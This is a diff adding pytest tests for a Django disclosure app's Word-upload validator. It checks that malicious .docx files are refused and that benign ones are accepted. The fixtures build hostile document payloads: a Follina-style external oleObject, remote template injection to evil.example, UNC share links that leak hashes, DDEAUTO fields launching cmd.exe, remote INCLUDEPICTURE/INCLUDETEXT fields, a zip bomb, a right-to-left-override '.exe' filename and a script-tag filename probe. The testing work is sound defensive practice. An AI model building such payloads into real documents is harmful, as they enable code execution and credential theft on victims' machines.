@@ -20,6 +20,7 @@ from sanxiang.disclosure.actions import (
 )
 from sanxiang.disclosure.demo import sample_docx
 from sanxiang.disclosure.models import DisclosureVersion, GuideFile, Section
+from sanxiang.disclosure.schema import FILE_ROLES
 from sanxiang.disclosure.testing import GUIDE, publish_all
 from sanxiang.ledger.models import LedgerEntry
 
@@ -195,3 +196,161 @@ def test_only_the_agencys_editors_attach_and_a_file_nobody_published_is_not_publ
         do_detach_guide_file(cast.a, "XK-001", 1, "errors_file", reason="x", actor=cast.leader)
     with pytest.raises(RuleViolation):
         do_attach_guide_file(cast.a, "XK-001", 9, "sample_file", PDF, "a.pdf", reason="x", actor=cast.leader)
+
+
+# ---- s25 tester10 #1, #2: a .docx that Word would make fetch or run something, or a zip bomb -------------
+# Built here as the tester built them by hand (/tmp/s25/tester10-scratch/files/): the demo's sample with
+# one part changed or added.
+
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+
+def _docx_edit(replace: dict | None = None, add: dict | None = None) -> bytes:
+    src = zipfile.ZipFile(io.BytesIO(DOCX))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        for n in src.namelist():
+            data = src.read(n)
+            if n in (replace or {}):
+                data = replace[n](data) if callable(replace[n]) else replace[n]
+            z.writestr(n, data)
+        for n, data in (add or {}).items():
+            z.writestr(n, data)
+    return out.getvalue()
+
+
+def _relationship(type_, target, external=True, part="word/_rels/document.xml.rels") -> dict:
+    mode = ' TargetMode="External"' if external else ""
+    rel = f'<Relationship Id="rId99" Type="{REL}/{type_}" Target="{target}"{mode}/>'.encode()
+    if part == "word/_rels/document.xml.rels":
+        return {"replace": {part: lambda b: b.replace(b"</Relationships>", rel + b"</Relationships>")}}
+    return {"add": {part: b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="'
+                    b'http://schemas.openxmlformats.org/package/2006/relationships">' + rel + b"</Relationships>"}}
+
+
+def _body(xml: str) -> dict:
+    """The paragraph `xml` put first in the document's body."""
+    return {"replace": {"word/document.xml": lambda b: b.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)}}
+
+
+def _field(*instr_runs: str) -> str:
+    """A complex field whose instruction is split over runs (as Word saves it after editing)."""
+    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{t}</w:instrText></w:r>' for t in instr_runs)
+    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/>'
+            f'</w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+NESTED_DDE = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+              '<w:r><w:instrText> QUOTE 68 68 69 65 85 84 79 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
+              '</w:r><w:r><w:instrText> c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
+              '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+REMOTE, EMBEDDED, FIELD = "从网络或其他计算机取得内容", "嵌有程序或对象", "会执行命令或引入外部内容的域代码"
+
+
+@pytest.mark.parametrize("parts,message", [
+    # "Follina" (CVE-2022-30190): an external oleObject relationship
+    (_relationship("oleObject", "http://evil.example/x.html!"), REMOTE),
+    # remote template injection, from settings.xml's relationships and from the document's
+    (_relationship("attachedTemplate", "http://evil.example/t.dotm", part="word/_rels/settings.xml.rels"), REMOTE),
+    (_relationship("attachedTemplate", "http://evil.example/t.dotm"), REMOTE),
+    # an image fetched from a share when the file opens (NTLM hash leak), a link to a share
+    (_relationship("image", "file://attacker/share/a.png"), REMOTE),
+    (_relationship("hyperlink", "\\\\attacker\\share\\a.docx"), REMOTE),
+    (_relationship("frame", "https://evil.example/f.html"), REMOTE),
+    # an object or an imported chunk inside the package
+    (_relationship("oleObject", "embeddings/x.xlsx", external=False), EMBEDDED),
+    ({**_relationship("aFChunk", "afchunk.mht", external=False),
+      "add": {"word/afchunk.mht": b"<script>alert(1)</script>"}}, EMBEDDED),
+    (_body('<w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId5"/>'),
+     EMBEDDED),
+    # fields that run a program or pull content in: split over runs, lower case, simple, a name built by a field
+    (_body(_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')), "域代码（DDEAUTO）"),
+    (_body(_field(" dd", "eauto c:\\\\x.exe ")), "域代码（DDEAUTO）"),
+    (_body(f'<w:p {W}><w:fldSimple w:instr=\' INCLUDEPICTURE "http://evil.example/a.png" \\d \'/></w:p>'), "域代码（INCLUDEPICTURE）"),
+    (_body(_field(' INCLUDETEXT "\\\\\\\\attacker\\\\share\\\\a.docx" ')), FIELD),
+    (_body(NESTED_DDE), "名称由另一个域生成的域"),
+    # no DTD in a package part (no entity can be declared)
+    ({"replace": {"word/document.xml": lambda b: b.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "b">]>', 1)}},
+     "不是有效的 Word 文档"),
+], ids=["follina", "settings-template", "template", "remote-image", "unc-link", "remote-frame", "ole-inside",
+        "afchunk-part", "altchunk", "ddeauto", "dde-split", "includepicture", "includetext", "dde-by-quote", "doctype"])
+def test_a_word_file_that_fetches_or_runs_something_when_opened_is_refused(cast, parts, message):
+    publish_all(cast.a, actor=OPERATOR)
+    before = state()
+    r = upload(client_for(cast.editor), cast.a, _docx_edit(**parts), "示范.docx")
+    assert r.status_code == 400, r.status_code
+    body = r.content.decode()
+    assert "文件未通过检查" in body and message in body
+    assert state() == before
+
+
+def test_a_word_file_with_page_numbers_a_date_and_a_web_link_is_accepted(cast):
+    publish_all(cast.a, actor=OPERATOR)
+    ok = _docx_edit(**{"replace": {
+        "word/document.xml": lambda b: b.replace(b"<w:body>", (
+            "<w:body>" + _field(" PAGE ", " \\* MERGEFORMAT ") + _field(' DATE \\@ "yyyy年M月d日" ')
+            + f'<w:p {W}><w:fldSimple w:instr=" NUMPAGES "/></w:p>').encode(), 1),
+        "word/_rels/document.xml.rels": lambda b: b.replace(b"</Relationships>", (
+            f'<Relationship Id="rId98" Type="{REL}/hyperlink" Target="https://www.gov.cn/zhengce/" '
+            'TargetMode="External"/></Relationships>').encode())},
+        # the template the author's Word made it from, on her own disk: nothing is fetched elsewhere
+        **_relationship("attachedTemplate", "file:///C:\\Users\\wang\\公文模板.dotx",
+                        part="word/_rels/settings.xml.rels")})
+    r = upload(client_for(cast.editor), cast.a, ok, "有页码的示范.docx")
+    assert r.status_code == 302, r.content.decode()[:2000]
+
+
+@override_settings(GUIDE_FILE_MAX_UNPACKED_BYTES=2 << 20)
+def test_a_word_file_that_inflates_past_the_limit_is_refused_before_it_is_unpacked(cast):
+    publish_all(cast.a, actor=OPERATOR)
+    before = state()
+    padding = b" " * (3 << 20)  # 3 MB of blanks: a few KB once compressed, far under the upload limit
+    bomb = _docx_edit(replace={"word/document.xml": lambda b: b.replace(b"<w:body>", b"<w:body>" + padding, 1)})
+    assert len(bomb) < 100_000
+    r = upload(client_for(cast.editor), cast.a, bomb, "炸弹.docx")
+    assert r.status_code == 400 and "解压后过大（最大 2.0 MB）" in r.content.decode()
+    assert state() == before
+    assert upload(client_for(cast.editor), cast.a, DOCX, "示范.docx").status_code == 302  # the real one still fits
+
+
+def test_the_same_bytes_uploaded_again_under_another_name_keep_each_materials_name(cast):
+    """s25 tester10 #6: uploading the same bytes again (here as the same material's 常见错误示例) renamed the
+    file everywhere — the 示范文本's link and every download of it took the second upload's name."""
+    from urllib.parse import quote
+
+    publish_all(cast.a, actor=OPERATOR)
+    c = client_for(cast.editor)
+    assert upload(c, cast.a, PDF, "../../第一份‮fdp.exe").status_code == 302
+    first = DisclosureVersion.objects.filter(agency=cast.a, section=Section.GUIDES).order_by("-version")[0]
+    assert upload(c, cast.a, PDF, "第二份.pdf", role="errors_file", reason="上传常见错误示例").status_code == 302
+
+    def current():
+        row = DisclosureVersion.objects.filter(agency=cast.a, section=Section.GUIDES).order_by("-version")[0]
+        return row.content["items"][0]["materials"][0]
+
+    m = current()
+    assert m["sample_file"]["sha256"] == m["errors_file"]["sha256"]
+    assert (m["sample_file"]["name"], m["errors_file"]["name"]) == ("第一份fdp.pdf", "第二份.pdf")
+    # editing the words (the whole guide saved again) renames nothing either
+    form = {k: v for k, v in GUIDE.items() if k != "materials"}
+    form.update(materials="申请书｜填写示范见附件｜未签字", cause="routine", reason="改写示范文本说明")
+    assert c.post(f"/disclosure/{cast.a.code}/guides/XK-001/edit/", form).status_code == 302
+    after = current()
+    assert after["sample"] == "填写示范见附件" and [after[k] for k in FILE_ROLES] == [m[k] for k in FILE_ROLES]
+
+    anon = Client()
+    page = anon.get(f"/gk/{cast.a.code}/zhinan/XK-001/").content.decode()
+    assert "下载 第一份fdp.pdf" in page and "下载 第二份.pdf" in page
+    link = f"/gk/{cast.a.code}/wenjian/{m['sample_file']['sha256']}/"
+    for name in ("第一份fdp.pdf", "第二份.pdf"):
+        href = f"{link}?name={quote(name, safe='')}"
+        assert href in page
+        got = anon.get(href)
+        assert got.status_code == 200 and got["Content-Disposition"].endswith(f"filename*=UTF-8''{quote(name)}")
+    # a name no published version gives the file is not echoed: the latest version's is used
+    got = anon.get(f"{link}?name={quote('<script>.pdf')}")
+    assert got.status_code == 200 and "script" not in got["Content-Disposition"]
+    # the version that had only the first upload still offers it under that name
+    old = anon.get(f"/gk/{cast.a.code}/zhinan/lishi/{first.version}/").content.decode()
+    assert "第一份fdp.pdf" in old and "第二份.pdf" not in old
